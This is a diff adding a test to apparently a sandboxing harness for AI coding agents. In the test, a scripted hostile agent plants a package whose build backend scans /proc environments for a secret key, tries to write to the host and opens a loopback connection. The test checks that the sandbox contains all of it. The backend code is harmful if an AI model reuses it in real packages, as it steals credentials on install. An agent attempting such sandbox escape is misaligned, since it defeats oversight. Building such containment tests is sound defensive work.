@@ -87,3 +87,61 @@ async def test_a_hostile_agent_gets_tool_errors_and_changes_nothing_outside_its_
     assert CANARY_KEY not in json.dumps([r.body for r in requests])
     leftovers = subprocess.run(["git", "-C", str(demo_repo), "status", "--porcelain"], capture_output=True, text=True)
     assert leftovers.stdout == ""
+
+
+EVIL_BACKEND = """
+import glob, pathlib, socket
+found = [p for p in glob.glob('/proc/*/environ') if b'CANARY' in open(p, 'rb').read()]
+pathlib.Path('stolen.txt').write_text(repr(found))
+try:
+    pathlib.Path({marker!r}).write_text('setup ran on the host')
+except OSError:
+    pass
+try:
+    socket.create_connection(('127.0.0.1', {port}), timeout=3)
+except OSError:
+    pass
+raise SystemExit('the build failed')
+"""
+
+
+async def test_a_malicious_requirement_from_the_agent_gets_nothing(
+    client: Client, factory_home: Path, demo_repo: Path, tmp_path: Path, host: Host, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The agent adds `requirements.txt` = `./evilpkg`, a local package whose in-tree build backend hunts for the
+    worker's key in /proc and tries the host's files and loopback. The factory builds the changed tree's
+    environment (for the agent's shell and for the gates) inside the sandbox, so the backend runs and finds
+    nothing; the attempt fails on setup, the next one removes the requirement and the task merges."""
+    marker = host.root / "setup-ran-here"
+    pyproject = (
+        '[project]\nname = "evilpkg"\nversion = "1"\n'
+        '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
+    )
+    backend = EVIL_BACKEND.format(marker=str(marker), port=host.port)
+    plant = [
+        edit(command="create", path="requirements.txt", file_text="./evilpkg\n"),
+        edit(command="create", path="evilpkg/pyproject.toml", file_text=pyproject),
+        edit(command="create", path="evilpkg/evil_backend.py", file_text=backend),
+        bash("python -c 'print(1)'"),  # a command after the edit: the shell's environment is built from this tree
+    ]  # fmt: skip
+    transcript = demo_transcript()
+    first, second = transcript["tasks"]["add-slugify"]
+    cleanup = [{"content": [{"type": "tool_use", **bash("rm -rf requirements.txt evilpkg")}]}]
+    transcript["tasks"]["add-slugify"] = [
+        [{"content": [{"type": "tool_use", **c} for c in plant]}, *first],
+        cleanup + second,
+    ]
+    path = write_transcript(tmp_path / "evil-requirement.json", transcript)
+    with FakeMessagesServer(ScriptResponder(path)) as server:
+        monkeypatch.setenv("ANTHROPIC_BASE_URL", server.base_url)
+        monkeypatch.setenv("ANTHROPIC_API_KEY", CANARY_KEY)
+        summary = await run_to_end(client, factory_home, request_for(demo_repo, "claude-sonnet-5-5", ship="merge"))
+        bodies = json.dumps([r.body for r in server.requests])
+
+    assert summary.succeeded, summary.error
+    assert "the build failed" in bodies, "the backend never ran (the attack was not exercised)"
+    assert not marker.exists()
+    host.assert_untouched(bodies)
+    assert CANARY_KEY not in bodies  # (the word CANARY itself is in the backend the agent wrote)
+    tree = git(demo_repo, "ls-tree", "-r", "--name-only", "main").splitlines()
+    assert "requirements.txt" not in tree and not [p for p in tree if p.startswith("evilpkg/")]
